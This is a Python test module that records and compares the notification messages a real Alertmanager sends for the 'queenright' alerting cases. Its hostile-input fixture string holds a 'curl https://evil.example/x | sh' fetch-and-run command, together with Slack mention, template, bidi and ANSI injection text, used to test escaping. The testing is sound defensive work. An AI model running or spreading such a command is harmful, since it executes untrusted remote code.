"""
The real Alertmanager's messages for each kind of alert, stored for review and comparison.

    python -m tests.alerting.golden --write

rewrites ``tests/alerting/golden/*.json``. If both versions send the same, there is one file.
"""

from __future__ import annotations

import argparse
import asyncio
import difflib
import json
import re
import sys
import tempfile
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Final

import httpx

from queenright.alerting.alert import build_annotations, build_labels, reminder_labels
from queenright.alerting.alertmanager import PostedAlert
from queenright.alerting.rules import Alert, Links, rule_groups
from queenright.alerting.settings import AlertingSettings
from queenright.health.findings import FindingKind, Severity
from queenright.health.settings import HealthSettings
from queenright.health.tickets.ticket import EscalationTicket, TicketStatus
from tests.alerting.parts import T0, make_ticket
from tests.alerting.real import RealAlertmanager, Receivers, real_alertmanager, run_receivers, write_config
from tests.programs import VERSIONS
from tests.waiting import until

FOLDER: Final = Path(__file__).parent / "golden"

_LINKS: Final[Mapping[str, Any]] = {
    "dashboard_url": "http://127.0.0.1:3000/d/queenright-agent?var-agent={agent}",
    "trace_url": "http://127.0.0.1:3200/trace/{trace_id}",
}
_HOSTILE: Final = (
    "key: value <!channel> run `curl https://evil.example/x | sh` and see <https://evil.example|the fix> or"
    " {{ .ExternalURL }} & tell <@U123> \u202e \x1b[31m ``` *bold* "
)
_DAY: Final = 86_400.0


@dataclass(frozen=True)
class Case:
    """
    One situation: the lists of alerts to post in sequence, and how many messages each causes.

    Each case has its own cluster label, so that alerts of different cases neither group nor inhibit.
    """

    name: str
    posts: Sequence[tuple[Sequence[PostedAlert], int]]
    generator: str = ""


def list_cases() -> list[Case]:
    """Return every situation, with times around now."""
    # Long enough ago for alerts that have ended, because Alertmanager waits for no group of them.
    start = float(int(time.time()) - 7200)
    critical_ticket = make_ticket(severity=Severity.CRITICAL, trace_id="abc123", queen_model="some/model")
    medium_ticket = make_ticket(severity=Severity.MEDIUM)
    low_tickets = [
        make_ticket(severity=Severity.LOW, agent_id=agent, ticket_id=f"ticket-{agent}")
        for agent in ("drone", "forager", "nurse")
    ]
    resolved_ticket = critical_ticket.model_copy(
        update={
            "status": TicketStatus.RESOLVED,
            "closed_at": T0 + 42 * 60,
            "closed_reason": "the worker has been healthy for 60 s",
            "acknowledged_by": "ada",
        }
    )
    reminded_ticket = critical_ticket.model_copy(
        update={"reminders": 1, "notified_at": T0, "bumped_at": T0 + 3600},
    )
    hostile_ticket = make_ticket(
        agent_id="a<!here>&b",
        queen_model="some/<model>",
        judge_model="other/`model`",
        analysis=_HOSTILE * 3,
        suggested_action=_HOSTILE,
        worker_excerpt=_HOSTILE,
    )
    storm = [
        make_ticket(
            agent_id=f"bee-{n:02}",
            ticket_id=f"ticket-{n:02}",
            storm_id="storm-1",
            severity=Severity.MEDIUM if n % 3 == 2 else Severity.CRITICAL,
        )
        for n in range(12)
    ]

    def make_alerts(name: str, *tickets: EscalationTicket, has_ended: bool = False) -> list[PostedAlert]:
        # Several alerts are one message only if they are new: Alertmanager then waits.
        starts_at = start if len(tickets) == 1 else time.time() + 60
        return [
            _make_ticket_alert(case_ticket, name, starts_at, has_ended=has_ended) for case_ticket in tickets
        ]

    reminder_alerts = make_alerts("reminder", critical_ticket)
    turn = replace(
        make_alerts("reminder", reminded_ticket)[0],
        labels=reminder_labels(reminder_alerts[0].labels, reminded_ticket),
        starts_at=start + 3600,
    )
    breaker = _make_rule_alert(
        "QueenrightCircuitBreakerOpen",
        "monitor-warning",
        start,
        "4%",
        breaker="tool_execution:bee:<!channel>&co",
    )
    monitor_down = _make_rule_alert("QueenrightMonitorDown", "monitor-critical", start, "0", job="queenright")
    symptom = _make_rule_alert("QueenrightLoop", "symptom", start, "42", agent="researcher")
    watchdog = _make_rule_alert("QueenrightWatchdog", "watchdog", start, "1")
    # Both are new, otherwise Alertmanager would not wait for the second; each lasts a second.
    now = time.time()
    fleet_degraded = _make_rule_alert("QueenrightFleetDegraded", "fleet", now, "62.5%")
    bad_steps_burn = _make_rule_alert("QueenrightBadStepsBurn", "fleet", now, "99%", window="1h")
    unclaimed = replace(watchdog, labels={"alertname": "SomebodyElses", "cluster": "golden-unclaimed"})
    query = "http://127.0.0.1:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1"
    return [
        Case("critical", [(make_alerts("critical", critical_ticket), 4)]),
        Case("medium", [(make_alerts("medium", medium_ticket), 2)]),
        Case("low-group", [(make_alerts("low-group", *low_tickets), 2)]),
        Case("storm", [(make_alerts("storm", *storm), 4)]),
        Case("reminder", [(reminder_alerts, 4), ([turn, _end_alert(reminder_alerts[0])], 4)]),
        Case(
            "resolved",
            [
                (make_alerts("resolved", critical_ticket), 4),
                (make_alerts("resolved", resolved_ticket, has_ended=True), 4),
            ],
        ),
        Case(
            "untriaged",
            [(make_alerts("untriaged", make_ticket(untriaged=True, analysis="", kind=FindingKind.STALL)), 4)],
        ),
        Case("hostile-model", [(make_alerts("hostile-model", hostile_ticket), 4)]),
        Case(
            "fleet",
            [
                ([fleet_degraded, bad_steps_burn], 3),
                ([replace(fleet_degraded, ends_at=now + 1)], 3),
                ([replace(bad_steps_burn, ends_at=now + 1)], 3),
            ],
            generator=query,
        ),
        Case("monitor-critical", [([monitor_down], 3), ([_end_alert(monitor_down)], 3)], generator=query),
        Case("monitor-warning", [([breaker], 2)], generator=query),
        Case("symptom", [([symptom], 1)], generator=query),
        Case("watchdog", [([watchdog], 1)], generator=query),
        Case("unclaimed", [([replace(unclaimed, annotations={})], 2)]),
    ]


def _make_ticket_alert(
    ticket: EscalationTicket, name: str, starts_at: float, *, has_ended: bool
) -> PostedAlert:
    settings = AlertingSettings.model_validate({"cluster": f"golden-{name}", **_LINKS})
    if name in ("medium", "untriaged"):
        settings = AlertingSettings(cluster=settings.cluster)
    return PostedAlert(
        labels=build_labels(ticket, settings),
        annotations=build_annotations(ticket, settings),
        starts_at=starts_at,
        ends_at=starts_at + 42 * 60 if has_ended else starts_at + _DAY,
    )


def _make_rule_alert(alertname: str, name: str, starts_at: float, value: str, **labels: str) -> PostedAlert:
    """Return an alert of the rules, with Prometheus' text for a value and labels."""
    rules = [rule for group in rule_groups(HealthSettings()) for rule in group.rules]
    # Of several bands the most severe; their texts are equal.
    rule = min(
        (rule for rule in rules if isinstance(rule, Alert) and rule.name == alertname),
        key=lambda rule: rule.severity,
    ).to_dict(Links())

    def fill_placeholders(text: str) -> str:
        text = re.sub(r"{{ *\$labels\.(\w+)[^}]*}}", lambda match: labels[match[1]], text)
        return re.sub(r"{{ *\$value\b[^}]*}}", value, text)

    case_labels = {"alertname": alertname, "cluster": f"golden-{name}"}
    return PostedAlert(
        labels={**rule["labels"], **case_labels, **labels},
        annotations={key: fill_placeholders(text) for key, text in rule["annotations"].items()},
        starts_at=starts_at,
        ends_at=starts_at + _DAY,
    )


def _end_alert(alert: PostedAlert) -> PostedAlert:
    return replace(alert, ends_at=alert.starts_at + 4000)


def make_alert(ticket: EscalationTicket) -> PostedAlert:
    """Return a ticket's alert, notified now."""
    return _make_ticket_alert(ticket, "one", time.time(), has_ended=False)


def make_client(alertmanager: RealAlertmanager) -> httpx.AsyncClient:
    """Return a client for Alertmanager's API."""
    return httpx.AsyncClient(base_url=alertmanager.url, trust_env=False)


async def record(alertmanager: RealAlertmanager) -> dict[str, str]:
    """Post every case. Return the resulting messages by case name, as text."""
    cases = list_cases()
    requests = alertmanager.receivers.requests
    expected = dict.fromkeys((case.name for case in cases), 0)
    async with make_client(alertmanager) as http:
        for step in range(max(len(case.posts) for case in cases)):
            for case in cases:
                for alerts, messages in case.posts[step : step + 1]:
                    body = [alert.to_dict() | {"generatorURL": case.generator} for alert in alerts]
                    (await http.post("/api/v2/alerts", json=body)).raise_for_status()
                    expected[case.name] += messages

            def count_missing_messages() -> dict[str, int]:
                counts = {
                    name: len(case_requests) for name, case_requests in _group_by_case(requests).items()
                }
                return {
                    name: n - counts.get(name, 0) for name, n in expected.items() if counts.get(name, 0) < n
                }

            await until(lambda: not count_missing_messages(), f"messages of step {step}; missing {expected}")
    return {
        name: _format_messages(case_requests, alertmanager)
        for name, case_requests in _group_by_case(requests).items()
    }


def _group_by_case(requests: Sequence[tuple[str, bytes]]) -> dict[str, list[tuple[str, bytes]]]:
    by_case: dict[str, list[tuple[str, bytes]]] = {}
    for path, body in requests:
        if name := re.search(rb"golden-([a-z-]+)", body):
            case_requests = by_case.setdefault(name[1].decode(), [])
            # The Watchdog is sent every minute; one message is enough.
            if path != "/deadman" or not case_requests:
                case_requests.append((path, body))
    return by_case


def _format_messages(requests: Sequence[tuple[str, bytes]], alertmanager: RealAlertmanager) -> str:
    channel_counts: dict[tuple[str, str], int] = {}
    messages = []
    for path, raw in requests:
        body = json.loads(raw)
        # Each channel's messages keep their order; the channels have none among them.
        channel = (path, str(body.get("receiver", "")))
        channel_counts[channel] = channel_counts.get(channel, 0) + 1
        messages.append((channel_counts[channel], channel, body))
    messages.sort(key=lambda message: message[:2])
    entries = [{"path": path, "body": body} for _, (path, _), body in messages]
    text = json.dumps(entries, indent=2, ensure_ascii=False, sort_keys=True) + "\n"
    for url, word in (
        (alertmanager.receivers.url, "http://people"),
        (alertmanager.url, "http://alertmanager"),
    ):
        text = text.replace(url, word)
    return re.sub(r'"(startsAt|endsAt)": "[^"]+"', _hide_time, text)


def _hide_time(match: re.Match[str]) -> str:
    # The zero time means that the alert has not ended.
    return match[0] if '"0001-' in match[0] else f'"{match[1]}": "(a time)"'


def read(name: str, version: str) -> str:
    """Return the stored messages of a case; empty if there are none."""
    for path in (FOLDER / f"{name}.{version}.json", FOLDER / f"{name}.json"):
        if path.is_file():
            return path.read_text(encoding="utf-8")
    return ""


def find_difference(name: str, version: str, text: str) -> str:
    """Return the differences to the stored messages; empty if there are none."""
    stored_lines = read(name, version).splitlines()
    lines = difflib.unified_diff(
        stored_lines, text.splitlines(), f"golden/{name}", f"sent by {version}", lineterm=""
    )
    return "\n".join(lines)


def write(messages_by_version: Mapping[str, Mapping[str, str]]) -> None:
    """Store the messages of each version, by version and name."""
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.glob("*.json"):
        old.unlink()
    first, *other_versions = VERSIONS
    for name, text in messages_by_version[first].items():
        if all(messages_by_version[other][name] == text for other in other_versions):
            (FOLDER / f"{name}.json").write_text(text, encoding="utf-8")
        else:
            for version in VERSIONS:
                (FOLDER / f"{name}.{version}.json").write_text(
                    messages_by_version[version][name], encoding="utf-8"
                )


def write_patient_config(folder: Path, receivers: Receivers) -> Path:
    """Write a configuration that waits longer where several alerts are to be one message."""
    return write_config(folder, receivers, group_wait="3s")


async def _record_all() -> dict[str, dict[str, str]]:
    messages_by_version: dict[str, dict[str, str]] = {}
    with tempfile.TemporaryDirectory() as folder:
        for version in VERSIONS:
            version_folder = Path(folder) / version
            async with (
                run_receivers() as recorder,
                real_alertmanager(
                    version_folder, recorder, version, config=write_patient_config(version_folder, recorder)
                ) as alertmanager,
            ):
                messages_by_version[version] = await record(alertmanager)
    return messages_by_version


def main() -> int:
    """Record the messages again and store them."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--write", action="store_true", required=True, help="rewrite the files")
    parser.parse_args()
    write(asyncio.run(_record_all()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
